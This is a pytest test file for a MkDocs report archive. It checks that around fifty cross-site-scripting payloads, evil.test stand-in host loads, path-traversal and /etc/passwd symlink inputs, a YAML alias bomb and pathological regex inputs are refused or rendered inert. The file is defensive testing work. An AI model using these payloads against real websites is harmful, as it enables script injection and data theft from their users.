"""Untrusted input, table-driven: nothing a pull request carries can run script in a reader's browser.

Each body payload is one report of a site built here; every such page (and the index pages that
list them) is opened in Chromium with no Content-Security-Policy at all, and the test asserts that
no script ran (no dialog, no flag set), no request left the site's origin, and the report's own
text is still shown. Validation and ``mkdocs build --strict`` name each payload as an error.
Front matter, registry, file and name payloads are refused with a message and never published.
"""

from __future__ import annotations

import os
import re
import subprocess
import sys
import time
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from conftest import ROOT, Project, report_text, serve

from report_archive import load_archive
from report_archive.model import Report, heading_text
from report_archive.reuse import plain_text
from report_archive.search import html_to_text, normalize
from report_archive.sections import compile_patterns, find_sections, flatten_headings

X = "alert(1)"  # every payload tries to run this; a dialog means it ran
BODY = [
    f"<script>{X}</script>",
    "<SCRIPT SRC=http://evil.test/x.js></SCRIPT>",
    f"<svg/onload={X}>",
    f"<svg><script>{X}</script></svg>",
    f'<img src="x"onerror={X}>',
    f"<img src=x onerror={X}>",
    f"<img\nsrc=x\nonerror={X}>",
    f'<img src="x" onerror = "{X}" >',
    f'<details title=">" open ontoggle={X}>x</details>',
    f"<details open ontoggle={X}>",
    f'<iframe srcdoc="<script>{X}</script>"></iframe>',
    "<iframe src=http://evil.test/></iframe>",
    f'<object data="javascript:{X}"></object>',
    f'<embed src="javascript:{X}">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{X}">',
    '<base href="http://evil.test/">',
    f'<form action="javascript:{X}"><button>提交</button></form>',
    f"<input autofocus onfocus={X}>",
    f'<a href="javascript:{X}" id="clickme">点我</a>',
    f'<a href="JaVaScRiPt:{X}">点我</a>',
    f'<a href="&#106;avascript:{X}">点我</a>',
    f'<a href="java\tscript:{X}">点我</a>',
    f'<a href="data:text/html,<script>{X}</script>">点我</a>',
    '<a href="vbscript:msgbox(1)">点我</a>',
    '<p style="background:url(http://evil.test/bg.png)">样式</p>',
    "<style>@import url(http://evil.test/x.css);</style>",
    '<link rel="stylesheet" href="http://evil.test/x.css">',
    "<img src=http://evil.test/track.png>",
    "<img src=//evil.test/track.png>",
    '<img srcset="http://evil.test/a.png 1x">',
    '<video poster="http://evil.test/p.png"></video>',
    f"<math><mtext><img src=x onerror={X}></mtext></math>",
    f"<!--><img src=x onerror={X}>-->",
    f"<body onload={X}>",
    f"<marquee onstart={X}>走马灯</marquee>",
    f'<div onmouseover="{X}" style="position:fixed;inset:0">覆盖</div>',
    f"[点我](javascript:{X})",
    f"[点我](&#106;avascript:{X})",
    f"[点我](JAVASCRIPT:{X})",
    "[点我](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{X}>",
    f"[点我][r]\n\n[r]: javascript:{X}",
    f'![图](/m.png){{: onerror="{X}"}}',
    "![图](http://evil.test/x.png)",
    f'## 小标题 {{: onclick="{X}" }}',
    '## 小标题 {: style="position:fixed;inset:0" }',
    f'[链接](x.md){{: onmouseover="{X}" }}',
    "## 小标题 {: #__md_scope }",
    f"脚注[^1]\n\n[^1]: <img src=x onerror={X}>",
    f'<div markdown="1">\n<img src=x onerror={X}>\n</div>',
]
# Front matter that is accepted: plain text with quotes and Markdown characters, shown as it is.
META_ACCEPTED = [
    ("position", '\'x"onfocus="alert(1)"autofocus="\''),
    ("title", "'[点我](javascript:alert(1)) **粗** `代码` | 表格 |'"),
    ("kind", "'x'' onmouseover=''alert(1)'"),
    ("position", "'{: onclick=\"alert(1)\" } # 标题'"),
]
# Front matter that is refused (the report is not published), with a fragment of the message.
META_REFUSED = [
    ("position", '"<svg/onload=alert(1)>"', "含有标记"),
    ("secretary", '\'x"onfocus="alert(1)"autofocus="\'', "不能含有"),
    ("title", '"</title><script>alert(1)</script>"', "含有标记"),
    ("title", '"&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;"', "含有标记"),
    ("kind", '"<img src=x onerror=alert(1)>"', "含有标记"),
    ("tags", '["<b onclick=alert(1)>x</b>"]', "含有标记"),
    ("secretary", "..", "不能是"),
    ("secretary", ".hidden", "不能是"),
    ("secretary", "a/b", "不能含有"),
    ("secretary", "张" * 41, "超过 40 个字符"),
    ("template", "../../etc/passwd", "未知的键"),
    ("hide", "[navigation]", "未知的键"),
]


# Payloads that Markdown does not read as markup at all: shown as text (or a harmless relative
# link), so validation has nothing to refuse; the browser check still applies.
HARMLESS = {'<img src="x"onerror=alert(1)>', f'<a href="java\tscript:{X}">点我</a>'}


def _body(index: int, payload: str) -> str:
    return f"# 报告{index}\n\n正文标记{index}。\n\n{payload}\n\n结尾标记{index}。\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A site whose reports carry every payload, built without --strict (the strict build refuses it)."""
    project = Project(tmp_path_factory.mktemp("hostile") / "project")
    for index, payload in enumerate(BODY):
        project.write(f"reports/{1950 + index}/市民政局.md", report_text(year=1950 + index, body=_body(index, payload)))
    for index, (key, value) in enumerate(META_ACCEPTED):
        year = 2020 + index
        project.write(f"reports/{year}/市财政局.md", report_text(year=year, unit="市财政局", **{key: value}))
    for index, (key, value, _) in enumerate(META_REFUSED):
        year = 2001 + index
        fields = {"secretary": value} if key == "secretary" else {key: value}
        text = report_text(year=year, unit="区教育局", **({"body": "# 拒绝\n\n不应发布。\n"} | fields))
        project.write(f"reports/{year}/区教育局.md", text)
    result = _build(project)
    return project, result


@pytest.fixture(scope="module")
def hostile_server(hostile):
    project, _ = hostile
    with serve(project.path / "site") as base:
        yield base


def _build(project: Project, strict: bool = False) -> subprocess.CompletedProcess:
    command = [sys.executable, "-m", "mkdocs", "build", "-d", str(project.path / "site")]
    return subprocess.run(
        command + (["--strict"] if strict else []),
        cwd=project.path,
        env=os.environ | {"NO_MKDOCS_2_WARNING": "1"},
        capture_output=True,
        text=True,
        timeout=300,
    )


def _open(browser, base: str, path: str):
    """Open a page with no CSP; return what ran and what was requested outside the origin."""
    context = browser.new_context()
    page = context.new_page()
    dialogs, outside, errors = [], [], []
    origin = urlsplit(base).netloc

    def route(route):
        if urlsplit(route.request.url).netloc != origin:
            outside.append(route.request.url)
            return route.abort()
        return route.continue_()

    context.route("**/*", route)
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(base + path, wait_until="load")
    if path.startswith("/search/"):  # a search ends in results or a message, never stuck on 正在检索…
        status = "document.querySelector('#search-status').textContent"
        page.wait_for_function(f"() => !{status}.includes('正在检索')", timeout=20_000)
    # Give hover, focus and click handlers their chance (links are not followed).
    page.evaluate(
        """() => document.querySelectorAll("article *").forEach((element) => {
          for (const type of ["mouseover", "focus"]) element.dispatchEvent(new Event(type, { bubbles: true }));
          if (!element.closest("a")) element.dispatchEvent(new MouseEvent("click", { bubbles: true }));
        })"""
    )
    page.wait_for_timeout(150)
    state = {
        "dialogs": dialogs,
        "outside": outside,
        "errors": errors,
        "text": page.locator("body").inner_text(),
        "url": page.url,
    }
    context.close()
    return state


def test_payload_count():
    assert len(BODY) + len(META_ACCEPTED) + len(META_REFUSED) + len(REGISTRY) + len(FILES) + len(QUERIES) >= 60


def test_strict_build_and_validation_name_every_body_payload(hostile):
    project, _ = hostile
    strict = _build(project, strict=True)
    assert strict.returncode != 0
    command = [sys.executable, str(ROOT / "scripts" / "validate.py"), "--docs", str(project.docs)]
    command += ["--units", str(project.path / "units.yml")]
    validated = subprocess.run(command, capture_output=True, text=True, timeout=120)
    assert validated.returncode == 1
    for index, payload in enumerate(BODY):
        file = f"reports/{1950 + index}/市民政局.md"
        # line: 5 front matter lines, a blank, '# 报告', a blank, the marker, a blank, then the payload
        if payload in HARMLESS:
            assert f"{file}:" not in validated.stdout, payload
            continue
        lines = set(range(11, 12 + payload.count("\n")))
        for output in (validated.stdout, strict.stderr):
            found = {int(n) for n in re.findall(rf"{re.escape(file)}:(\d+): 正文中的 <", output)}
            assert found and found <= lines, (payload, found)


@pytest.mark.parametrize("index", range(len(BODY)))
def test_body_payload_runs_nothing_and_the_report_stays(hostile_server, browser, index):
    base = hostile_server
    state = _open(browser, base, f"/reports/{1950 + index}/%E5%B8%82%E6%B0%91%E6%94%BF%E5%B1%80/")
    assert state["dialogs"] == [], BODY[index]
    assert state["outside"] == [], BODY[index]
    assert urlsplit(state["url"]).netloc == urlsplit(base).netloc  # no redirect away
    assert f"正文标记{index}。" in state["text"] and f"结尾标记{index}。" in state["text"], BODY[index]
    if BODY[index] == '<img src="x"onerror=alert(1)>':
        assert BODY[index] in state["text"]  # shown as the text it is


@pytest.mark.parametrize("index", range(len(META_ACCEPTED)))
def test_plain_front_matter_is_shown_as_text(hostile_server, browser, index):
    key, value = META_ACCEPTED[index]
    shown = value.strip("'").replace("''", "'")
    report_path = f"/reports/{2020 + index}/%E5%B8%82%E8%B4%A2%E6%94%BF%E5%B1%80/"
    pages = (report_path, "/years/", f"/years/{2020 + index}/")
    states = {path: _open(browser, hostile_server, path) for path in pages}
    for path, state in states.items():
        assert state["dialogs"] == [] and state["outside"] == [], (path, value)
    if key in ("position", "kind"):
        assert shown in states[report_path]["text"]
    if key in ("title", "position"):
        assert shown in states[f"/years/{2020 + index}/"]["text"]


@pytest.mark.parametrize(("key", "value", "fragment"), META_REFUSED)
def test_unsafe_front_matter_is_refused_and_never_published(hostile, key, value, fragment):
    project, result = hostile
    index = META_REFUSED.index((key, value, fragment))
    file = f"reports/{2001 + index}/区教育局.md"
    archive = load_archive(project.docs, project.path / "units.yml")
    messages = [p.message for p in archive.problems if p.file == file]
    assert any(fragment in m for m in messages), messages
    assert file in archive.excluded and all(r.path != file for r in archive.reports)
    assert not (project.path / "site" / "reports" / str(2001 + index)).exists()
    assert f"{file}:" in result.stderr  # the build logs it as an error


def test_every_index_page_runs_nothing(hostile, browser):
    project, _ = hostile
    site = project.path / "site"
    pages = ["/", "/years/", "/units/", "/secretaries/", "/stats/", "/review/", "/search/?q=正文标记"]
    pages += [f"/review/{1950 + i}/" for i in range(len(BODY))]
    pages += ["/units/%E5%B8%82%E6%B0%91%E6%94%BF%E5%B1%80/", "/secretaries/%E5%BC%A0%E4%B8%89/"]
    with serve(site) as base:
        for path in pages:
            state = _open(browser, base, path)
            assert state["dialogs"] == [] and state["outside"] == [], path


# ---- units.yml ---------------------------------------------------------------------------------

REGISTRY = [
    ("- name: '<img src=x onerror=alert(1)>'\n", "含有标记"),
    ("- name: ..\n", "不能是"),
    ("- name: .git\n", "不能是"),
    ("- name: a/b\n", "不能含有"),
    ("- name: 市民政局\n  aliases: ['<svg onload=alert(1)>']\n", "含有标记"),
    ("- name: 市民政局\n  aliases: {a: 1}\n", "应为文字或文字的列表"),
    ("- name: 市民政局\n  parent: '&lt;b&gt;'\n", "含有标记"),
    ("- name: 市民政局\n  formerly: [{name: '<b>旧</b>', until: 2018}]\n", "formerly 应写为"),
    ("- &a {name: 市民政局}\n- *a\n", "锚点和别名"),
    ("- name: 市民政局\n  name: 市财政局\n", "重复出现"),
]


@pytest.mark.parametrize(("text", "fragment"), REGISTRY)
def test_unsafe_registry_entries_are_refused(tmp_path, text, fragment):
    (tmp_path / "docs" / "reports").mkdir(parents=True)
    (tmp_path / "units.yml").write_text(text, encoding="utf-8")
    archive = load_archive(tmp_path / "docs", tmp_path / "units.yml")
    assert any(fragment in p.message and p.file == "units.yml" and p.line for p in archive.problems), archive.problems
    assert all(n.name not in ("..", ".git") and "<" not in n.name for n in archive.registry.units)


def test_undecodable_or_linked_registry_is_a_message(tmp_path):
    (tmp_path / "docs" / "reports").mkdir(parents=True)
    (tmp_path / "units.yml").write_bytes("- name: 市民政局\n".encode("gbk"))
    assert "不是 UTF-8" in load_archive(tmp_path / "docs", tmp_path / "units.yml").problems[0].message
    (tmp_path / "real.yml").write_text("- name: 市民政局\n", encoding="utf-8")
    (tmp_path / "units.yml").unlink()
    (tmp_path / "units.yml").symlink_to(tmp_path / "real.yml")
    assert "符号链接" in load_archive(tmp_path / "docs", tmp_path / "units.yml").problems[0].message


# ---- files under docs/ ---------------------------------------------------------------------------

FILES = [
    ("reports/2022/evil.html", b"<script>alert(1)</script>", "只能放报告"),
    ("reports/2022/evil.js", b"alert(1)", "只能放报告"),
    ("reports/2022/evil.svg", b"<svg onload=alert(1)></svg>", "只能放报告"),
    ("reports/2022/fake.png", b"<html><script>alert(1)</script>", "内容不是这种图片"),
    ("reports/2022/x.md", None, "这是一个目录"),
    ('reports/2022/市民政局-"x.md', report_text().encode(), "不能含有"),
    ("passwd.txt", Path("/etc/passwd"), "符号链接"),
    ("reports/linked", Path("/etc"), "符号链接（目录）"),
]


def test_files_that_may_not_live_in_docs_are_refused_and_not_published(tmp_path):
    project = Project(tmp_path / "project")
    project.write("reports/2022/市民政局.md", report_text())
    project.write("reports/2022/photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32)
    for rel, content, _ in FILES:
        target = project.docs / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        if content is None:
            target.mkdir()
            (target / "a.md").write_text(report_text(), encoding="utf-8")
        elif isinstance(content, Path):
            target.symlink_to(content)
        else:
            target.write_bytes(content)
    archive = load_archive(project.docs, project.path / "units.yml")
    for rel, _, fragment in FILES:
        assert any(p.file == rel and fragment in p.message for p in archive.problems), (rel, archive.problems)
    result = _build(project)
    site = project.path / "site"
    assert (site / "reports" / "2022" / "photo.png").exists()  # a real image is allowed
    for rel, _, _ in FILES:
        stem = Path(rel)
        assert not (site / rel).exists() and not (site / stem.with_suffix("")).exists(), rel
    assert not list(site.rglob("passwd*")) and not (site / "reports" / "linked").exists()
    assert _build(project, strict=True).returncode != 0
    assert "passwd.txt" in result.stderr


PATHOLOGICAL = {
    "long-line": "的" * 100_000,
    "spaced-heading": "# a" + " " * 100_000 + "b",
    "closing-hashes": "## " + "\t " * 20_000 + "#" * 20_000,
    "brackets": "[" * 50_000 + "](" * 50_000,
    "footnote-refs": "[^1] " * 5_000 + "\n\n[^1]: 注",
    "line-breaks": "一  \n" * 300_000,
    "emphasis": "*a*" * 30_000,
}


def test_patterns_on_report_text_run_in_linear_time():
    """The archive's own regular expressions, fed 100,000-character lines and pathological headings."""
    body = "# 标题\n\n" + "\n\n".join(PATHOLOGICAL.values()) + "\n" + "<" * 100_000 + "](" * 50_000 + "[^" * 30_000
    started = time.perf_counter()
    report = Report(2022, "市民政局", "张三", "reports/2022/市民政局.md", body=body)
    assert report.title == "标题" and report.length > 100_000
    find_sections(body, compile_patterns())
    flatten_headings(body)
    plain_text(body)
    heading_text(" " * 100_000 + "#" * 100_000)
    normalize(html_to_text("<p>" + "<" * 100_000 + "</p>" + "<script>" * 10_000))
    assert time.perf_counter() - started < 2.0


def test_pathological_reports_are_refused_before_rendering(tmp_path):
    """Markdown itself is quadratic on such input: the archive refuses it before MkDocs renders it."""
    project = Project(tmp_path / "project")
    for index, text in enumerate(PATHOLOGICAL.values()):
        project.write(f"reports/{2000 + index}/市民政局.md", report_text(year=2000 + index, body=f"# 标题\n\n{text}\n"))
    started = time.perf_counter()
    archive = load_archive(project.docs, project.path / "units.yml")
    assert time.perf_counter() - started < 2.0
    refused = {p.file for p in archive.problems if "构建非常慢" in p.message}
    assert refused == {f"reports/{2000 + i}/市民政局.md" for i in range(len(PATHOLOGICAL))}
    assert archive.reports == []
    started = time.perf_counter()
    result = _build(project)
    assert time.perf_counter() - started < 60  # seconds, not the minutes rendering would take
    assert "Traceback" not in result.stderr and "构建非常慢" in result.stderr


def test_oversized_report_and_yaml_bombs_are_refused(tmp_path):
    project = Project(tmp_path / "project")
    project.write("reports/2022/市民政局.md", report_text(body="字" * 800_000))  # 2.4 MB in UTF-8
    bomb = "---\nyear: 2022\nunit: 市财政局\nsecretary: 张三\n"
    bomb += 'a: &a ["x","x","x","x","x","x","x","x","x"]\n'
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        bomb += f"{name}: &{name} [{','.join([f'*{previous}'] * 9)}]\n"
    bomb += "---\n\n# 炸弹\n"
    project.write("reports/2022/市财政局.md", bomb)
    project.write("reports/2021/市民政局.md", "---\nyear: 2021\nyear: 2022\nunit: 市民政局\nsecretary: 张三\n---\n")
    started = time.perf_counter()
    archive = load_archive(project.docs, project.path / "units.yml")
    assert time.perf_counter() - started < 2.0
    problems = {p.file: p.message for p in archive.problems}
    assert "超过报告的上限 2 MB" in problems["reports/2022/市民政局.md"]
    assert "锚点和别名" in problems["reports/2022/市财政局.md"]
    assert "重复出现" in problems["reports/2021/市民政局.md"]
    assert archive.reports == []
    result = _build(project)
    assert not (project.path / "site" / "reports" / "2022").exists()
    assert "Traceback" not in result.stderr


# ---- query strings -----------------------------------------------------------------------------

QUERIES = [
    "/search/?q=" + quote("<img src=x onerror=alert(1)>"),
    "/search/?q=" + quote('"><svg onload=alert(1)>'),
    "/search/?q=" + quote("正文标记") + "&unit=" + quote("<img src=x onerror=alert(1)>"),
    "/search/?q=" + quote("正文标记") + "&year=" + quote("<svg onload=alert(1)>"),
    "/search/?q=" + quote("正文标记") + "&sort=" + quote("javascript:alert(1)") + "&page=-1",
    "/reports/1950/%E5%B8%82%E6%B0%91%E6%94%BF%E5%B1%80/?h=" + quote("<script>alert(1)</script>"),
    "/reports/1951/%E5%B8%82%E6%B0%91%E6%94%BF%E5%B1%80/?reuse=" + quote("javascript:alert(1)"),
    "/reports/1952/%E5%B8%82%E6%B0%91%E6%94%BF%E5%B1%80/?reuse=" + quote("http://evil.test/x"),
]


@pytest.mark.parametrize("path", QUERIES)
def test_query_strings_run_nothing(hostile_server, browser, path):
    state = _open(browser, hostile_server, path)
    assert state["dialogs"] == [] and state["outside"] == [], path
    assert "正在检索" not in state["text"]
